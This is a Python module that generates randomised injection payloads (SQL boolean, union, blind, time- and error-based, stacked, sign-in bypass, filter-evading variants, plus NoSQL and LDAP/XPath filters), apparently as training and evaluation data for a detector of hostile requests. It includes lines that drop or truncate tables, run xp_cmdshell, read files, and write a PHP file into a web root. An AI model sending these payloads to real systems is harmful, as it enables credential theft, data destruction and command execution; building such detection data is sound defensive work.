"""Attacks on queries, written from how SQL is broken out of: one family a technique."""

from __future__ import annotations

import random
from collections.abc import Callable

from weir_models.request_attack.placing import word

R = random.Random

FUNCTIONS = (
    "version()",
    "user()",
    "database()",
    "@@version",
    "current_user",
    "@@hostname",
    "session_user()",
    "sqlite_version()",
    "schema()",
    "system_user",
)
TABLES = (
    "users",
    "admin",
    "members",
    "accounts",
    "customers",
    "information_schema.tables",
    "information_schema.columns",
    "mysql.user",
    "sysobjects",
    "all_tables",
    "sqlite_master",
    "pg_catalog.pg_user",
    "orders",
    "wp_users",
    "dual",
)
COLUMNS = (
    "password",
    "passwd",
    "username",
    "login",
    "email",
    "table_name",
    "column_name",
    "credit_card",
    "hash",
    "name",
    "id",
    "user_pass",
    "salt",
)


def _case(r: R, text: str) -> str:
    style = r.random()
    if style < 0.4:
        return text
    if style < 0.65:
        return text.upper()
    return "".join(c.upper() if r.random() < 0.5 else c for c in text)


def _space(r: R, text: str) -> str:
    """White space as it is or as filters are passed with."""
    style = r.random()
    if style < 0.7:
        return text
    filler = r.choice(
        (
            "/**/",
            "+",
            "\t",
            "\n",
            "\r\n",
            "/*" + word(r) + "*/",
            "%0a",
            "\x0b",
            "  ",
            "--" + word(r) + "\n",
            "#" + word(r) + "\n",
        )
    )
    return text.replace(" ", filler)


def _finish(r: R, text: str) -> str:
    return _space(r, _case(r, text))


def _open(r: R) -> str:
    return r.choice(("", str(r.randint(0, 9999)), f"-{r.randint(1, 9999)}", word(r), "x")) + r.choice(
        ("'", "'", "'", '"', "", "')", "'))", '")', ")", "' ", "%'", "`", "\\'")
    )


def _close(r: R) -> str:
    return r.choice(
        (
            "--",
            "-- ",
            "#",
            "/*",
            "-- -",
            "--+",
            ";--",
            ";%00",
            "",
            "",
            " and '1'='1",
            " or 'a'='a",
            ' and ("a"="a',
            " and ('x' like 'x",
            "--" + word(r),
        )
    )


def _logic(r: R) -> str:
    return r.choice(("or", "and", "or", "and", "||", "&&", "xor", "or not", "and not", "having", "where", "as x where"))


def _number(r: R) -> int:
    return r.randint(1, 9999)


def _truth(r: R) -> str:
    n = _number(r)
    m = r.choice((n, n, n, _number(r)))
    s = word(r)
    return r.choice(
        (
            f"{n}={m}",
            f"{n} = {m}",
            f"'{s}'='{s}",
            f"'{s}' = '{s}'",
            f'"{s}"="{s}',
            f"({n})=({n})",
            f"{n} like {n}",
            f"'{s}' like '{s}",
            f"{n}<{n + 1}",
            f"{n}<>{n + 1}",
            f"{n} between {n - 1} and {n + 1}",
            f"'{s}' in ('{s}')",
            f"not {n}={n + 1}",
            f"{n}>{n - 1}",
            "true",
            "1",
            f"'{s}' is not null",
            f"{n} rlike {n}",
            f"0x{n:04x}=0x{n:04x}",
            f"char({n % 120})=char({n % 120})",
            f"~{n}",
            f"{n} regexp {n}",
            f"'{s}'<>'{s}x",
            "exists(select 1)",
            f"{r.choice(COLUMNS)} is null",
            f"{r.choice(COLUMNS)} like '%{s}%'",
            f"length({r.choice(COLUMNS)})>{n % 20}",
        )
    )


def boolean(r: R) -> str:
    """A condition that is always true or always false."""
    return _finish(r, f"{_open(r)} {_logic(r)} {_truth(r)}{_close(r)}")


def sign_in(r: R) -> str:
    """Past a sign-in form."""
    who = r.choice(("admin", "root", "administrator", "test", "sa", ""))
    return _finish(
        r,
        r.choice(
            (
                f"{who}'--",
                f"{who}' #",
                f"{who}'/*",
                f"{who}' or 1=1--",
                f"{who}' or '1'='1",
                f"{who}') or ('1'='1",
                f"{who}' or 1=1 limit 1;#",
                "' or ''='",
                "' or 1--",
                "' or true--",
                f'{who}" or ""="',
                "' || '1'='1",
                "'='",
                "' like '",
                "'-'",
                "' or 1=1/*",
                f"{who}' or 1 or '",
                "'=0--+",
                f"'+or+'{word(r)}'='{word(r)}",
                "') or true--",
                f"' or {_truth(r)}{_close(r)}",
            )
        ),
    )


def _columns(r: R) -> str:
    pick = r.random()
    count = r.randint(1, 14)
    if pick < 0.3:
        items = ["null"] * count
    elif pick < 0.6:
        items = [str(i + 1) for i in range(count)]
    elif pick < 0.75:
        items = [str(_number(r))] * count
    else:
        items = [
            r.choice(
                (
                    str(i),
                    "null",
                    r.choice(COLUMNS),
                    r.choice(FUNCTIONS),
                    f"concat({r.choice(COLUMNS)},0x3a,{r.choice(COLUMNS)})",
                    f"group_concat({r.choice(COLUMNS)})",
                    f"char({_number(r) % 120})",
                    f"'{word(r)}'",
                    f"0x{_number(r):08x}",
                    f"{r.choice(COLUMNS)}||':'||{r.choice(COLUMNS)}",
                )
            )
            for i in range(count)
        ]
    return ",".join(items)


def _select(r: R) -> str:
    tail = r.choice(
        (
            "",
            f" from {r.choice(TABLES)}",
            f" from {r.choice(TABLES)} where {r.choice(COLUMNS)}='{word(r)}'",
            f" from {r.choice(TABLES)} limit {r.randint(0, 9)},1",
            f" from {r.choice(TABLES)} where table_schema=database()",
            f" from {word(r)}.{r.choice(TABLES)}",
        )
    )
    return f"select {r.choice(('', '', '', 'distinct ', 'top 1 '))}{_columns(r)}{tail}"


def union(r: R) -> str:
    """Rows of another table joined to the answer."""
    select = _select(r)
    if r.random() < 0.15:
        select = f"({select})"
    return _finish(r, f"{_open(r)} union {r.choice(('', 'all ', 'distinct '))}{select}{_close(r)}").replace(
        "union  ", "union "
    )


def _delay(r: R) -> str:
    n = r.randint(1, 20)
    return r.choice(
        (
            f"sleep({n})",
            f"pg_sleep({n})",
            f"benchmark({n}000000,md5({_number(r)}))",
            f"waitfor delay '0:0:{n}'",
            f"dbms_pipe.receive_message('{word(r)}',{n})",
            f"(select {_number(r)} from (select(sleep({n})))x)",
            f"if({_truth(r)},sleep({n}),0)",
            f"(select case when ({_truth(r)}) then pg_sleep({n}) else null end)",
            f"like('abcdefg',upper(hex(randomblob({n}00000000))))",
            f"(select count(*) from {r.choice(TABLES)} a,{r.choice(TABLES)} b,{r.choice(TABLES)} c)",
        )
    )


def time(r: R) -> str:
    """An answer that comes late when the guess is right."""
    return _finish(
        r,
        r.choice(
            (
                f"{_open(r)} {_logic(r)} {_delay(r)}{_close(r)}",
                f"{_open(r)};{r.choice(('select ', '', 'if(1=1) ', 'begin '))}{_delay(r)}{_close(r)}",
                _delay(r),
                f"{_number(r)}-{_delay(r)}",
                f"{_open(r)}||{_delay(r)}||'",
                f"({_delay(r)})/*'+({_delay(r)})+'*/",
            )
        ),
    )


def error(r: R) -> str:
    """Data inside the text of an error."""
    inner = r.choice(
        (
            f"(select {r.choice(FUNCTIONS)})",
            f"({_select(r)})",
            r.choice(FUNCTIONS),
            f"(select (case when ({_truth(r)}) then 1 else 0 end))",
        )
    )
    made = r.choice(
        (
            f"extractvalue({_number(r)},concat(0x7e,{inner}))",
            f"updatexml(1,concat(0x3a,{inner}),1)",
            f"(select 1 from (select count(*),concat({inner},floor(rand(0)*2))x from information_schema.tables group by x)a)",
            f"cast({inner} as int)=1",
            f"convert(int,{inner})",
            f"1=(select upper(xmltype(chr(60)||{inner})) from dual)",
            f"ctxsys.drithsx.sn(1,{inner})=1",
            f"exp(~{inner})",
            f"row(1,2)>(select count(*),concat({inner},floor(rand(0)*2))x from (select 1 union select 2)a group by x limit 1)",
            f"cast({inner}::text as numeric)",
            f"utl_inaddr.get_host_address({inner})",
            f"json_keys({inner})",
            f"gtid_subset({inner},1)",
            f"procedure analyse(extractvalue(1,{inner}),1)",
        )
    )
    return _finish(r, f"{_open(r)} {_logic(r)} {made}{_close(r)}")


def stacked(r: R) -> str:
    """A second statement."""
    made = r.choice(
        (
            f"drop table {r.choice(TABLES)}",
            f"insert into {r.choice(TABLES)} values ({_columns(r)})",
            f"update {r.choice(TABLES)} set {r.choice(COLUMNS)}='{word(r)}'",
            f"delete from {r.choice(TABLES)}",
            f"exec xp_cmdshell '{word(r)}'",
            f"exec master..xp_cmdshell 'ping {word(r)}'",
            f"declare @x varchar(99);set @x=0x{_number(r):x};exec(@x)",
            "shutdown",
            _select(r),
            f"create table {word(r)}(x int)",
            f"alter table {r.choice(TABLES)} add x int",
            f"truncate table {r.choice(TABLES)}",
            f"exec sp_executesql N'{word(r)}'",
            f"copy {word(r)} from program 'id'",
            "exec('sel'+'ect 1')",
        )
    )
    return _finish(r, f"{_open(r)};{r.choice(('', ' '))}{made}{_close(r)}")


def blind(r: R) -> str:
    """One character at a time."""
    n = r.randint(1, 40)
    inner = f"(select {r.choice(COLUMNS)} from {r.choice(TABLES)} limit 1)"
    made = r.choice(
        (
            f"ascii(substring({inner},{n},1))>{n + 30}",
            f"substr({r.choice(FUNCTIONS)},{n},1)='{r.choice('abc5')}'",
            f"length({inner})={n}",
            f"(select count(*) from {r.choice(TABLES)})>{n}",
            f"ord(mid({inner},{n},1))&{n}",
            f"{inner} like '{r.choice('abc')}%'",
            f"exists({_select(r)})",
            f"case when ({_truth(r)}) then 1 else 0 end",
            f"unicode(substring(({_select(r)}),{n},1))={n}",
            f"bin(ascii({r.choice(FUNCTIONS)}))",
            f"left({r.choice(FUNCTIONS)},{n})='{n}'",
            f"if({_truth(r)},1,0)",
            f"nullif(ascii(substr({r.choice(COLUMNS)},{n},1)),{n})",
        )
    )
    return _finish(r, f"{_open(r)} {_logic(r)} {made}{_close(r)}")


def order(r: R) -> str:
    """How many columns there are, and clauses that end a query."""
    return _finish(
        r,
        r.choice(
            (
                f"{_open(r)} order by {r.randint(1, 60)}{_close(r)}",
                f"{_open(r)} group by {r.choice(COLUMNS)} having 1=1{_close(r)}",
                f"{_open(r)} having {_truth(r)}{_close(r)}",
                f"{_open(r)} limit {r.randint(0, 9)},{r.randint(1, 9)}{_close(r)}",
                f"{_number(r)} order by {r.randint(2, 90)}{r.choice(('--', '#', '-- -', '/*'))}",
                f"{_open(r)} group by {r.randint(1, 9)}{_close(r)}",
                f"{_open(r)} into outfile '/var/www/{word(r)}.php'{_close(r)}",
                f"{_open(r)} procedure analyse(){_close(r)}",
            )
        ),
    )


def bare(r: R) -> str:
    """An expression or statement alone, as it stands in a numeric parameter or a field for a query."""
    return _finish(
        r,
        r.choice(
            (
                _select(r),
                f"({_select(r)})",
                f"{_number(r)}-({_select(r)})",
                f"{_number(r)} and {_truth(r)}",
                f"{_number(r)} or {_truth(r)}",
                f"case when {_truth(r)} then {_number(r)} else {_number(r)} end",
                f"{r.choice(FUNCTIONS)}",
                f"char({_number(r) % 120})||char({_number(r) % 120})||{r.choice(FUNCTIONS)}",
                f"concat({r.choice(FUNCTIONS)},0x3a,{r.choice(FUNCTIONS)})",
                f"{_number(r)}/(select case when {_truth(r)} then 1 else 0 end)",
                f"load_file('/{word(r)}')",
                f"insert into {r.choice(TABLES)} ({r.choice(COLUMNS)}) values ('{word(r)}')",
                f"{word(r)}'||{r.choice(FUNCTIONS)}||'{word(r)}",
                f"{word(r)}'+({_select(r)})+'{word(r)}",
                f"iif({_truth(r)},{_number(r)},1/0)",
                f"{_number(r)}*(case when ({_truth(r)}) then 1 else 2 end)",
            )
        ),
    )


def disguised(r: R) -> str:
    """Version comments, scientific numbers, brackets for spaces."""
    text = r.choice((union, boolean, blind))(r)
    for keyword in ("union", "select", "from", "where", "and", "or"):
        if r.random() < 0.7:
            text = text.replace(
                f" {keyword} ",
                r.choice(
                    (
                        f"/*!{keyword}*/",
                        f"/*!50000{keyword}*/",
                        f"/**/{keyword}/**/",
                        f" {keyword.upper()}\n",
                        f"%0b{keyword}%0b",
                        f"\xa0{keyword}\xa0",
                        f"({keyword})" if keyword == "x" else f" {keyword}(",
                    )
                ),
            )
    return text


def document(r: R) -> str:
    """Operators and code for document stores."""
    field, n = word(r), _number(r)
    return r.choice(
        (
            '{"$ne": null}',
            f'{{"{field}": {{"$gt": ""}}}}',
            f"{field}[$ne]={n}",
            "[$regex]=.*",
            f"'; return true; var x='{field}",
            "' || 1==1 || '",
            f"{{$where: 'this.{field} == {n}'}}",
            f"true, $where: '{n} == {n}'",
            f"db.{field}.drop();",
            f"db.{field}.find({{}})",
            f"1;var d=new Date();do{{c=new Date();}}while(c-d<{n})",
            f'{{"$or":[{{}},{{"{field}":"{n}"}}]}}',
            f"', $or: [ {{}}, {{ '{field}':'{field}",
            f"' || this.{field}.match(/.*/) || '",
            f'{{"{field}":{{"$in":["admin","root"]}}}}',
            f"{field}[$exists]=true",
            f"';sleep({n});'",
            "0;return(true)",
        )
    )


def directory(r: R) -> str:
    """Filters for directories and XPath."""
    field = word(r)
    return r.choice(
        (
            f"*)({field}=*",
            f"*)(|({field}=*))",
            "admin)(&)",
            f"(&({field}=admin)(!({field}=x)))",
            "*(|(objectclass=*))",
            "*)(uid=*))(|(uid=*",
            f"{field})(|(password=*))",
            f"(|(uid={field})(objectclass=*))",
            "' or '1'='1' or ''='",
            "' or count(//*)>0 or 'a'='b",
            f"'] | //{field}[text()='",
            f"' and string-length(name(/*[1]))>{_number(r)} and '1'='1",
            f"x' or name()='{field}' or 'x'='y",
            f"userPassword:{_number(r)}.5.13.18:={field}",
            f"(!(objectClass={field}))",
        )
    )


FAMILIES: tuple[tuple[str, str, str, float, Callable[[R], str]], ...] = (
    ("sqli", "boolean", "fit", 2.0, boolean), ("sqli", "sign_in", "calibrate", 1.0, sign_in), ("sqli", "union", "fit", 2.0, union), ("sqli", "time", "fit", 1.5, time), ("sqli", "error", "evaluate", 1.5, error), ("sqli", "stacked", "calibrate", 1.0, stacked), ("sqli", "blind", "fit", 1.5, blind), ("sqli", "order", "evaluate", 1.0, order), ("sqli", "bare", "fit", 1.5, bare), ("sqli", "disguised", "evaluate", 1.0, disguised), ("sqli", "document", "fit", 0.7, document), ("sqli", "directory", "evaluate", 0.7, directory),
)  # fmt: skip
